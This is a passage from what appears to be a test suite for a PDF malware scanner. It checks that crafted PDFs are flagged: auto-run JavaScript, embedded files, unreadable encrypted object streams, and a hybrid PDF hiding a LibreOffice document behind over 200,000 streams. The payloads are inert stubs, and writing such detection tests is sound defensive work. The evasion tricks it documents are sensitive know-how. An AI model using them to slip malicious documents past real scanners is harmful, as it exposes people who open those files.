    for (const length of [`${data.length}`, `${data.length - 3}`, '99 0 R']) {
      const pdf = Buffer.from(
        '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n' +
          `5 0 obj << /Length ${length} >> stream\n${data}\nendstream endobj\n` +
          'trailer << /Root 1 0 R /AdditionalStreams [/application/vnd.oasis.opendocument.text 5 0 R] >>\n',
        'latin1',
      );
      const inspector = new PdfInspector({ expandedBytes: 0 }, 1024 * 1024);
      inspector.push(pdf);
      const hits = await inspector.finish({
        read: async (start, end) => pdf.subarray(start, end),
        inspectEmbedded: async (_, bytes) => {
          handed.push(Buffer.from(bytes).toString('latin1'));
          return [];
        },
      });
      expect(hits.map((h) => h.rule)).toEqual(['pdf-javascript']);
    }
    // A length that fits: all of the data. A wrong or indirect one: up to the first `endstream`
    // (the end of line before it kept, as no length says where the data ends).
    expect(handed).toEqual([data, '<xdp>\n', '<xdp>\n']);
  });

  it('refuses an attached PDF that runs JavaScript', async () => {
    const inner = buildPdf({ catalogExtra: '/OpenAction << /S /JavaScript /JS (x) >>' });
    expect((await scan(buildPdf(embedded('a.pdf', inner)))).rules).toContain('pdf-embedded-file');
  });

  it('refuses a hybrid PDF whose LibreOffice document comes after more streams than the check keeps', async () => {
    // The trailer names the document only at the end; 200,001 empty streams before it.
    const empty = Array.from(
      { length: 200_001 },
      (_, i) => `${i + 10} 0 obj << /Length 0 >> stream\n\nendstream endobj\n`,
    );
    const pdf = Buffer.from(
      `%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${empty.join('')}` +
        '5 0 obj << /Length 2 >> stream\nPK\nendstream endobj\n' +
        'trailer << /Root 1 0 R /AdditionalStreams [/application#2Fvnd#2Eoasis#2Eopendocument#2Etext 5 0 R] >>\n',
      'latin1',
    );
    const hits = await inspectInChunks(pdf, []);
    expect(hits.map((h) => [h.rule, h.detail])).toEqual([
      [
        'pdf-embedded-file',
        'The PDF has too many streams (over 200000) to read the application/vnd.oasis.opendocument.text document LibreOffice opens in place of the PDF (object 5).',
      ],
    ]);
  }, 30_000);

  it('accepts an encrypted PDF whose dictionaries are all in plain sight', async () => {
    expect((await scan(buildPdf({ trailerExtra: '/Encrypt 9 0 R' }))).kind).toBe('clean');
    expect(
      (
        await scan(
          buildPdf({
            trailerExtra: '/Encrypt 9 0 R',
            catalogExtra: '/OpenAction << /S /JavaScript /JS <00> >>',
          }),
        )
      ).rules,
    ).toContain('pdf-javascript');
  });

  it('refuses an encrypted PDF whose object streams cannot be read', async () => {
    const r = await scan(
      buildPdf({
        trailerExtra: '/Encrypt 9 0 R',
        objStm: '<< /Title (x) >>',
        objStmFilter: { filter: '/FlateDecode', encode: (d) => Buffer.from(d.map((b) => b ^ 0x5a)) },
      }),
    );
    expect(r.rules).toEqual(['pdf-encrypted']);
  });
});

describe('notIn: headers found that no object read starts at', () => {
  it('finds each missing value once, whatever the order the lists were filled in', () => {
    expect(notIn([10, 30, 20], [30, 5, 10, 40, 5, 25, 40])).toEqual([5, 25, 40]);
    expect(notIn([], [3, 1, 2])).toEqual([1, 2, 3]);
    expect(notIn([1, 2, 3], [])).toEqual([]);
    expect(notIn([1, 2, 3], [3, 2, 1])).toEqual([]);
  });
});
